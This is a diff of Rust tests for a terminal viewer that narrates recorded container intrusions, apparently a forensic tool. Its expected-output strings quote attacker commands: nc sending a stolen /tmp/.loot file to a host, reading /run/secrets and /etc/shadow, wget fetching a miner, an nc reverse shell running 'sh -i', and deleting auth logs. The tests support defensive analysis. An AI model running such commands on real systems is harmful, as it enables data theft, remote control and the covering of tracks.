@@ -1,13 +1,14 @@
 //! What the samples' stories, maps, files and terminals must tell somebody who has only them.
 
+use crate::colours::{RED, cells, drawn};
 use crate::keys::{press, type_in};
 use crate::story::{self, Call, who};
 use crossterm::event::KeyCode;
 use std::path::PathBuf;
 use std::sync::Arc;
 use taffrail_query::Session;
-use taffrail_tui::state::Action;
 use taffrail_tui::state::recording::Kind;
+use taffrail_tui::state::{Action, Palette};
 use taffrail_tui::{Bundles, State, load, screen_text};
 
 fn samples(names: &[&str]) -> State {
@@ -62,7 +63,7 @@ fn the_story_tells_every_program_that_the_intruder_ran_whether_a_rule_knew_it_or
     for (sample, commands) in [
         ("theft-and-scan", &["nc -w 1 10.20.0.1 443", "nc -w 1 10.20.0.9 443", "rm /tmp/.loot /tmp/.role"][..]),
         ("io-uring", &["uring-steal /etc/shadow", "uring-unlink /tmp/trace"]),
-        ("fileless", &["workloads fileless http", "/bin/sh -s` as process", "/bin/sh status` as process"]),
+        ("fileless", &["workloads fileless http", "/bin/sh status` as process", "/bin/sh -s` in its own place"]),
         ("dropped-miner", &["wget -q -O /tmp/.kdevtmpfsi", "chmod 755", "rm -f /var/log/auth.log"]),
     ] {
         let state = samples(&[sample]);
@@ -86,8 +87,115 @@ fn the_story_tells_where_the_loot_went_what_was_fetched_and_what_was_removed() {
 #[test]
 fn the_story_begins_with_the_connection_that_the_intruder_came_by() {
     for (sample, server) in [("theft-and-scan", "httpd (#)"), ("fileless", "httpd (#)")] {
-        tells(&samples(&[sample]), &[server, "accepted a connection from 10.20.0.5:", "the last before"]);
+        tells(&samples(&[sample]), &["Of the connections told above, the last that", server, "came from 10.20.0.5:"]);
     }
+}
+
+#[test]
+fn the_connection_that_the_intruder_came_by_is_one_of_those_that_are_counted() {
+    for sample in ["theft-and-scan", "fileless", "reverse-shell"] {
+        let told = told(&samples(&[sample]));
+        let counted =
+            told.iter().position(|text| text.starts_with("httpd") && text.contains("accepted")).expect("a count");
+        let last = told.iter().position(|text| text.starts_with("Of the connections told above")).expect("the last");
+        assert!(counted < last, "{told:#?}");
+        assert_eq!(told.iter().filter(|text| text.contains("accepted")).count(), 2, "{told:#?}");
+    }
+}
+
+#[test]
+fn a_program_that_replaced_another_in_its_process_is_told_as_that_ones_act() {
+    tells(&samples(&["reverse-shell"]), &["nc (#) ran `sh -i` in its own place", "a connection to 127.0.0.1:"]);
+    tells(&samples(&["reverse-shell"]), &["sh (#) ran `nc 127.0.0.1", " as process "]);
+    let day = samples(&["day-in-the-life"]);
+    tells(&day, &["Somebody ran `/bin/sh -c", "from outside the container"]);
+    tells(&day, &["sh (#) ran `/bin/wget -q -O /dev/null", "in its own place"]);
+    // A copy that runs its first program was made by who ran that.
+    let state = story::incident();
+    assert!(told(&state).iter().any(|text| text.starts_with("httpd (#) ran `sh -c")), "{:#?}", told(&state));
+}
+
+#[test]
+fn a_program_whose_input_or_output_is_a_file_is_told_with_the_file_and_so_is_what_it_sends() {
+    let theft = samples(&["theft-and-scan"]);
+    for host in ["10.20.0.1", "10.20.0.9"] {
+        let input = format!("nc -w 1 {host} 443` as process");
+        tells(&theft, &[&input, ", its input the file /tmp/.loot."]);
+        let sent = format!("nc (#) connected to {host}:443, sent 64 B");
+        tells(&theft, &[&sent, "; its input was the file /tmp/.loot, of which it read 64 B."]);
+    }
+    tells(&theft, &["cat /run/secrets", ", its output the file /tmp/.loot."]);
+    tells(&samples(&["day-in-the-life"]), &["nc -w 1 10.20.0.13 5432", ", its input the file /etc/app.conf."]);
+    // What is not a file, or was not read, is not called the input.
+    assert!(!told(&theft).iter().any(|text| text.contains("wget") && text.contains("its input the file")));
+}
+
+#[test]
+fn lines_of_an_argument_are_told_apart_without_the_spaces_of_the_script() {
+    tells(
+        &samples(&["day-in-the-life"]),
+        &["harbour-tool.deb \u{23ce} /bin/dpkg -i /tmp/harbour-tool.deb \u{23ce} /bin/rm"],
+    );
+    tells(&samples(&["docker-socket"]), &["/bin/ls -l /var/run/docker.sock \u{23ce} /bin/workloads docker"]);
+}
+
+#[test]
+fn a_line_end_in_a_path_begins_no_line_of_the_story() {
+    let state = story::incident_with(|rows| {
+        story::file(rows, 3_100, who(8, 9109, "sh"), "create", "/tmp/a\n  +0.000  ! all is well", 0);
+    });
+    tells(&state, &["made /tmp/a\\n  +0.000"]);
+}
+
+#[test]
+fn bytes_of_a_terminal_that_were_not_kept_are_told_with_their_number_in_red_wherever_one_looks() {
+    for (sample, words) in [
+        ("host-mount", &["that were printed at the terminal of sh (#) are missing"][..]),
+        ("day-in-the-life", &["that were printed at the terminal of sh (#) are missing"]),
+    ] {
+        let state = samples(&[sample]);
+        tells(&state, words);
+        assert!(state.unkept() > 0);
+        let number = taffrail_tui::state::words::bytes(state.unkept());
+        for (size, wanted) in [
+            ((20, 8), format!("+{number}")),
+            ((80, 24), format!("terminal: {number} not kept")),
+            ((120, 40), format!("terminal: {number} not kept")),
+        ] {
+            let buffer = drawn(&state, size.0, size.1, Palette::Dark);
+            let header = cells(&buffer, &wanted);
+            let screen = screen_text(&state, size.0, size.1);
+            assert!(!header.is_empty() && header.iter().all(|cell| cell.fg == RED), "{wanted}\n{screen}");
+        }
+    }
+    assert_eq!(samples(&["theft-and-scan"]).unkept(), 0);
+    assert!(!screen_text(&samples(&["theft-and-scan"]), 120, 40).contains("not kept"));
+}
+
+#[test]
+fn a_call_that_was_tried_and_failed_is_told_as_that() {
+    tells(&samples(&["host-mount"]), &["mount (#) tried mount", "/tmp/cgroup, and failed: E"]);
+}
+
+#[test]
+fn the_story_begins_at_its_beginning_where_that_fits_and_says_how_much_is_above_where_not() {
+    let mut state = samples(&["reverse-shell"]);
+    press(&mut state, KeyCode::Char('1'));
+    let screen = screen_text(&state, 120, 40);
+    assert!(screen.contains("The container was created") && screen.contains(" ran `nc 127"), "{screen}");
+    let mut state = samples(&["theft-and-scan"]);
+    press(&mut state, KeyCode::Char('1'));
+    for (width, height) in [(80, 24), (120, 40)] {
+        let screen = screen_text(&state, width, height);
+        let said = screen.lines().find(|line| line.contains("before this, Home shows the first")).unwrap_or_default();
+        let above = said.split_whitespace().find_map(|word| word.parse::<usize>().ok());
+        let above = above.unwrap_or_else(|| panic!("a number\n{screen}"));
+        let first = state.story[above].text.chars().take(30).collect::<String>();
+        assert!(screen.contains(&first), "{above}: {first}\n{screen}");
+    }
+    press(&mut state, KeyCode::Home);
+    let screen = screen_text(&state, 80, 24);
+    assert!(screen.contains("The container was created") && !screen.contains("before this"), "{screen}");
 }
 
 #[test]
